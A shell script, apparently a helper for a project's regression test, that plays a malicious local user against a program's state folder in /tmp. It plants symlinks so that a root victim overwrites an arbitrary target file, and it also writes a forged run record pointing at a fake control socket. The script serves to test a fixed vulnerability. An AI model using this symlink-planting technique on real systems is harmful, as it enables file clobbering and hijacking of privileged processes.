#!/bin/sh
# The attacker's tool of test_statedir.sh: another local user (run it
# under setpriv --reuid=65534) who prepares the state folder that a
# victim (root with HOME unset, whose state folder used to fall back to
# /tmp/.local/state/securestreams) is about to use.
#
#   statedir_attacker.sh link STATEDIR NAME TARGET
#       makes STATEDIR (world-readable, the attacker's) and plants
#       NAME.run.tmp and NAME.run as links to TARGET: a victim that
#       writes its record through them overwrites TARGET
#   statedir_attacker.sh record STATEDIR NAME SOCKET
#       makes STATEDIR and plants a record of run NAME whose control=
#       is SOCKET (the attacker's fake supervisor: fake_ctl.py)
set -eu
mode=$1 dir=$2 name=$3 arg=$4
mkdir -p "$dir"
chmod 755 "$dir"
case $mode in
link)
    ln -sf "$arg" "$dir/$name.run.tmp"
    ln -sf "$arg" "$dir/$name.run" ;;
record)
    printf 'name=%s\non=local\npipeline=/x.yml\noutdir=/tmp\nsecurity=plain\nhost=%s\npid=1\nstarted=0\nworkers=map=1\ncontrol=%s\n' \
        "$name" "$(hostname)" "$arg" > "$dir/$name.run"
    chmod 644 "$dir/$name.run" ;;
*) echo "usage: $0 link|record STATEDIR NAME ARG" >&2; exit 2 ;;
esac
